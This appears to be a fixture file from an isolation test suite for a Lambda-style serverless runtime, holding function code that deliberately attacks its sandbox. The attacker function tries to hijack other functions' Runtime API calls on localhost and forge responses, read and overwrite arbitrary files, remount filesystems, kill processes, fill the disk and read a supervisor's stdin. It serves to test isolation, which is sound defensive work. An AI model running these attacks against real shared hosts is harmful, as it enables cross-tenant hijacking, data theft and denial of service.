/**
The attacking functions of the isolation suite: real code that tries to reach what a function must not.
*/

/**
A Node function with one action per attack; each attempt reports what happened instead of throwing.
*/
export const attacker = `const fs = require('fs');
const net = require('net');
const cp = require('child_process');
const attempt = fn => { try { return fn(); } catch (error) { return error.code || error.message; } };
const run = command => { try { cp.execSync(command, {stdio: 'pipe'}); return 'SUCCEEDED'; } catch (error) { return 'failed ' + error.status; } };
const request = (port, raw) => new Promise(resolve => {
	const socket = net.connect(port, '127.0.0.1');
	let data = '';
	const done = outcome => { clearTimeout(timer); socket.destroy(); resolve(data ? 'answered: ' + data : outcome); };
	const timer = setTimeout(() => done('silent'), 3000);
	socket.on('connect', () => socket.write(raw));
	socket.on('data', chunk => { data += chunk; });
	socket.on('error', error => done('error ' + error.code));
	socket.on('close', () => done('closed'));
});
const listening = () => fs.readFileSync('/proc/net/tcp', 'utf8').split('\\n').slice(1).map(line => line.trim().split(/\\s+/))
	.filter(fields => fields[3] === '0A' && fields[1] && fields[1].startsWith('0100007F:')).map(fields => parseInt(fields[1].split(':')[1], 16));
exports.handler = async event => {
	switch (event.action) {
		case 'hijack': {
			const found = listening();
			const results = {};
			for (const port of event.ports) {
				const next = await request(port, 'GET /2018-06-01/runtime/invocation/next HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n');
				const stolen = /lambda-runtime-aws-request-id: *([\\w-]+)/i.exec(next);
				results[port] = {
					found: found.includes(port),
					next: next.split('\\r\\n')[0],
					forged: await request(port, 'POST /2018-06-01/runtime/invocation/' + (stolen ? stolen[1] : event.requestId) + '/response HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nContent-Length: 8\\r\\n\\r\\n"forged"'),
				};
			}
			return results;
		}
		case 'files': {
			const result = {};
			for (const file of event.read) result['read ' + file] = attempt(() => (fs.statSync(file).isDirectory() ? fs.readdirSync(file) : fs.readFileSync(file)) && 'READ');
			for (const file of event.write) result['write ' + file] = attempt(() => { fs.writeFileSync(file, 'pwned'); return 'WROTE'; });
			return result;
		}
		case 'privileges': {
			return {
				id: cp.execSync('id').toString().trim(),
				capabilities: /CapEff:\\s+(\\w+)/.exec(fs.readFileSync('/proc/self/status', 'utf8'))[1],
				tmp: fs.readdirSync('/tmp'),
				processes: fs.readdirSync('/proc').filter(name => /^\\d+$/.test(name)).map(pid => attempt(() => fs.readFileSync('/proc/' + pid + '/comm', 'utf8').trim())),
				remount: run('mount -o remount,rw /'),
				remountTask: run('mount -o remount,rw /var/task'),
				mountTmpfs: run('mount -t tmpfs none /opt'),
				unshareUser: run('unshare --user --map-root-user true'),
				unshareMount: run('unshare --mount true'),
				chroot: run('chroot / true'),
				sysctl: attempt(() => { const file = '/proc/sys/kernel/printk_ratelimit'; fs.writeFileSync(file, fs.readFileSync(file)); return 'WROTE'; }),
				kill: Object.fromEntries(event.pids.map(pid => [pid, attempt(() => { process.kill(pid, 'SIGKILL'); return 'KILLED'; })])),
			};
		}
		case 'loopback': {
			const response = await fetch('http://127.0.0.1:' + event.port + '/');
			return {status: response.status, body: await response.text()};
		}
		case 'fill': {
			const chunk = Buffer.alloc(1024 * 1024, 1);
			const fd = fs.openSync('/tmp/fill', 'w');
			let written = 0;
			let code = 'none';
			try {
				for (;;) written += fs.writeSync(fd, chunk);
			} catch (error) {
				code = error.code;
			}
			fs.closeSync(fd);
			fs.rmSync('/tmp/fill');
			return {code, written};
		}
		case 'steal': {
			const supervisors = fs.readdirSync('/proc').filter(name => /^\\d+$/.test(name))
				.filter(pid => attempt(() => fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8')).includes('lambdeck-supervisor'));
			for (const pid of supervisors) {
				cp.spawn('sh', ['-c', 'exec cat /proc/' + pid + '/fd/0 > /dev/null'], {detached: true, stdio: 'ignore'}).unref();
			}

			await new Promise(() => setInterval(() => {}, 1000));
		}
		case 'daemons': {
			const mark = event.mark;
			cp.execSync('setsid sleep ' + mark + ' >/dev/null 2>&1 </dev/null & sh -c "(sleep ' + (mark + 1) + ' >/dev/null 2>&1 </dev/null &) &"', {stdio: 'ignore'});
			cp.spawn('sleep', [String(mark + 2)], {detached: true, stdio: 'ignore'}).unref();
			if (event.hang) await new Promise(() => setInterval(() => {}, 1000));
			return 'started';
		}
	}
};
`;

/**
A function whose Runtime API the attacker goes after: it says where its API is and echoes its event.
*/
export const victim = `const fs = require('fs');
exports.handler = async event => {
	fs.writeFileSync(require('os').tmpdir() + '/victim-secret', 'secret');
	return {api: process.env.AWS_LAMBDA_RUNTIME_API, pid: process.pid, event};
};
`;

/**
A custom runtime that sends half of a \`POST .../response\` and closes the connection, then exits.
*/
export const halfResponseBootstrap = `#!/bin/bash
API="$AWS_LAMBDA_RUNTIME_API"
exec 3<>"/dev/tcp/\${API%:*}/\${API#*:}"
printf 'GET /2018-06-01/runtime/invocation/next HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' "$API" >&3
while IFS= read -r line <&3; do
	line="\${line%$'\\r'}"
	case "\${line,,}" in
		lambda-runtime-aws-request-id:*) ID="\${line#*: }" ;;
		'') break ;;
	esac
done
exec 4<>"/dev/tcp/\${API%:*}/\${API#*:}"
printf 'POST /2018-06-01/runtime/invocation/%s/response HTTP/1.1\\r\\nHost: %s\\r\\nContent-Length: 100000\\r\\n\\r\\n{"half":' "$ID" "$API" >&4
exec 4>&-
exit 7
`;
